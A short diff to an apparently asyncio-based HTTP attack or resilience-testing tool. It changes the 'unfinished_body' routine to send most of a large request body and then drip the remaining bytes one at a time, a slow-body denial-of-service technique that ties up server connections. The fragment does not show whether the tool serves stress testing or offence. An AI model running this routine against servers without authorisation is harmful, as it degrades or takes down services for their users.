@@ -152,12 +152,16 @@ async def unread_pipeline(attack: Attack, number: int, placed: Placed) -> None:
 
 
 async def unfinished_body(attack: Attack, number: int, placed: Placed) -> None:
-    """Send a large body but for its end."""
+    """Send a large body quickly, and its end a byte at a time."""
     async with Connection(attack, number) as connection:
         head = attack.head(number, f"Content-Length: {BODY_BYTES}", "Content-Type: a/b")
         await connection.send(head + bytes(BODY_BYTES - MISSING_BYTES))
         placed()
-        await connection.read_to_end()
+        answer = asyncio.create_task(connection.read_to_end())
+        while not answer.done():  # bytes keep the rest of the body awaited
+            await connection.send(b"a")
+            await asyncio.wait([answer], timeout=DRIP_S)
+        await answer
 
 
 async def unread_result(attack: Attack, number: int, placed: Placed) -> None:
